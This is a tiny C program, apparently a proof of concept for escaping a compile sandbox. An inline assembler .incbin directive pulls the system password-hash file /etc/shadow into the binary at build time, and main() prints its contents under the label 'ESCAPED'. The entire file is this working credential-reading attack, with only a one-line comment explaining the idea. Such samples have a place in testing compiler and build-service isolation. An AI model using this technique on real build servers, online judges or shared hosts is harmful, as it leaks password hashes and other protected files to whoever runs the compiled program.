/* The assembler reads files too, and what it reads ends up in the program. */
#include <stdio.h>
extern const char taken[], taken_end[];
__asm__(".section .rodata\ntaken: .incbin \"/etc/shadow\"\ntaken_end: .byte 0\n.text");
int main(void) {
    printf("ESCAPED %ld bytes: %s\n", (long)(taken_end - taken), taken);
    return 0;
}
